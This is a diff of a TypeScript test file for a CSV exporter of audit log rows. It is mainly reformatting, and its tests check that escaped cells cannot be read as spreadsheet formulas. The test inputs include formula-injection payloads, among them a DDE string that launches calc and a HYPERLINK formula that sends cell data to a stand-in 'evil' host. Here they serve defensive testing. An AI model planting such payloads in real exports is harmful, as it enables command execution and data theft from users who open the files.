@@ -30,16 +30,34 @@ function parseCsv(text: string): string[][] {
 }
 
 const rowWith = (members: object): ReaderRow => ({
-  ...createSampleDrafts().audit(members), log: '_/gateway/edge-1/audit', monotonic_seq: 1, prev_hash: 'genesis', hash: null, verification: 'ring',
+  ...createSampleDrafts().audit(members),
+  log: '_/gateway/edge-1/audit',
+  monotonic_seq: 1,
+  prev_hash: 'genesis',
+  hash: null,
+  verification: 'ring',
 })
 
 describe('csv', () => {
   test('no cell is a formula to a spreadsheet', () => {
     for (const attack of [
-      '=cmd|\' /C calc\'!A0', '+1+1', '-2+3', '@SUM(1,1)', '\t=1', '\r=1', '\n=1', '  =1', '\u00a0=1', '\uff1d1', '\uff0b1', '\uff0d1', '\uff201',
-      '=HYPERLINK("http://evil/?"&A1,"x")', '\0=1',
+      "=cmd|' /C calc'!A0",
+      '+1+1',
+      '-2+3',
+      '@SUM(1,1)',
+      '\t=1',
+      '\r=1',
+      '\n=1',
+      '  =1',
+      '\u00a0=1',
+      '\uff1d1',
+      '\uff0b1',
+      '\uff0d1',
+      '\uff201',
+      '=HYPERLINK("http://evil/?"&A1,"x")',
+      '\0=1',
     ]) {
-      const [[cell = '']] = parseCsv(`${csvCell(attack)}\r\n`) as [[string]]
+      const cell = parseCsv(`${csvCell(attack)}\r\n`)[0]?.[0] ?? assert.fail('no cell')
       assert.doesNotMatch(cell, /^[\s\0]*[=+\-@\uff1d\uff0b\uff0d\uff20]/, JSON.stringify(attack))
       assert.doesNotMatch(cell, /^[\t\r\n]/)
     }
@@ -48,18 +66,30 @@ describe('csv', () => {
   })
 
   test('whatever is in a row, the line has the columns of the header', () => {
-    const hostile = fc.string({ unit: fc.oneof(fc.constantFrom('"', ',', '\r', '\n', '=', '\t', "'", ';'), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })) })
-    fc.assert(fc.property(hostile, hostile, (actor, note) => {
-      const parsed = parseCsv(csvHeader('audit') + csvLine(rowWith({ actor, target: note, detail: { note } }), 'audit'))
-      assert.equal(parsed.length, 2)
-      assert.equal(parsed[1]?.length, csvColumns.audit.length)
-      const detail = parsed[1]?.[csvColumns.audit.indexOf('detail')] ?? ''
-      assert.deepEqual(JSON.parse(detail), { note })
-    }), { numRuns: 300 })
+    const hostile = fc.string({
+      unit: fc.oneof(
+        fc.constantFrom('"', ',', '\r', '\n', '=', '\t', "'", ';'),
+        fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
+      ),
+    })
+    fc.assert(
+      fc.property(hostile, hostile, (actor, note) => {
+        const parsed = parseCsv(
+          csvHeader('audit') + csvLine(rowWith({ actor, target: note, detail: { note } }), 'audit'),
+        )
+        assert.equal(parsed.length, 2)
+        assert.equal(parsed[1]?.length, csvColumns.audit.length)
+        const detail = parsed[1]?.[csvColumns.audit.indexOf('detail')] ?? ''
+        assert.deepEqual(JSON.parse(detail), { note })
+      }),
+      { numRuns: 300 },
+    )
   })
 
   test('nested members are JSON, absent ones empty', () => {
-    const [header = [], line = []] = parseCsv(csvHeader('audit') + csvLine(rowWith({ source: { ip: '10.0.0.7' } }), 'audit'))
+    const [header = [], line = []] = parseCsv(
+      csvHeader('audit') + csvLine(rowWith({ source: { ip: '10.0.0.7' } }), 'audit'),
+    )
     const cell = (name: string): string | undefined => line[header.indexOf(name)]
     assert.equal(cell('source'), '{"ip":"10.0.0.7"}')
     assert.equal(cell('reason'), '')
